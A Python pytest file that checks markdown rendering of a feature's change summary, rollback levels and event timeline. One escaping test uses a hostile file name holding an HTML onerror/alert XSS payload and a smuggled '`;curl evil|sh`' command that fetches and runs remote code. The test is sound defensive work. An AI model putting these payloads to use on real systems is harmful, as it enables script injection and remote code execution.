"""Markdown passages about a plan: complete, and safe with hostile text from the change."""

from __future__ import annotations

import dataclasses
import json

import pytest
from support.paths import PLAN_FIXTURE

from planner.model import FileRisk, Plan, Step
from simulations.notebook import markdown

FIXTURE = PLAN_FIXTURE


@pytest.fixture
def plan() -> Plan:
    return Plan.from_dict(json.loads(FIXTURE.read_text()))


def test_change_markdown_names_feature_service_and_flag(plan: Plan) -> None:
    text = markdown.change_markdown(plan)
    assert "- **Feature**: checkout-v2" in text
    assert "- **Service**: `checkout`" in text
    assert "- **Feature flag**: `FEATURE_CHECKOUT_V2`" in text
    assert "- **Source**: change manifest" in text


def test_rollback_markdown_has_every_level_with_estimate_and_commands(plan: Plan) -> None:
    text = markdown.rollback_markdown(plan)
    for n, name, minutes in ((1, "Feature flag", 3), (2, "Configuration revert", 8)):
        assert f"### Level {n}: {name}" in text
        assert f"**Estimated {minutes} min**" in text
    assert "```sh\n   git revert --no-edit abc\n   ```" in text
    assert "- REVERT: `src/payments/charge.py`" in text


def test_hostile_text_cannot_inject_html_or_break_code(plan: Plan) -> None:
    evil = "x<img src=y onerror=alert(1)>`;curl evil|sh`.js"
    files = (FileRisk(path=evil, change="added", level="HIGH", reasons=(f"path {evil}",)),)
    level = dataclasses.replace(
        plan.rollback.levels[0],
        name="<b>flag</b>",
        steps=(Step(action=f"Delete {evil}", command="echo ```done```"),),
    )
    rollback = dataclasses.replace(
        plan.rollback,
        levels=(level,),
        files=dataclasses.replace(plan.rollback.files, delete=(evil,)),
    )
    change = dataclasses.replace(plan.change, feature="<script>x</script>")
    hostile = dataclasses.replace(
        plan, change=change, rollback=rollback, risk=dataclasses.replace(plan.risk, files=files)
    )
    text = markdown.change_markdown(hostile) + markdown.rollback_markdown(hostile)
    assert "<img" not in text and "<script>" not in text and "<b>" not in text
    assert "&lt;script&gt;x&lt;/script&gt;" in text
    # a command with a backtick run gets a longer fence, so it cannot close the block early
    assert "````sh\n   echo ```done```\n   ````" in text
    # a file name in a code span loses its backticks rather than ending the span
    assert "`x&lt;img src=y onerror=alert(1)&gt;';curl evil|sh'.js`" in text


def test_events_markdown_lists_times_and_events() -> None:
    text = markdown.events_markdown([(0.0, "stage", "Canary 10%"), (75.5, "detected", "")])
    assert text.splitlines() == ["- **0.0 min** stage Canary 10%", "- **75.5 min** detected "]
    assert markdown.events_markdown([]) == "No events."
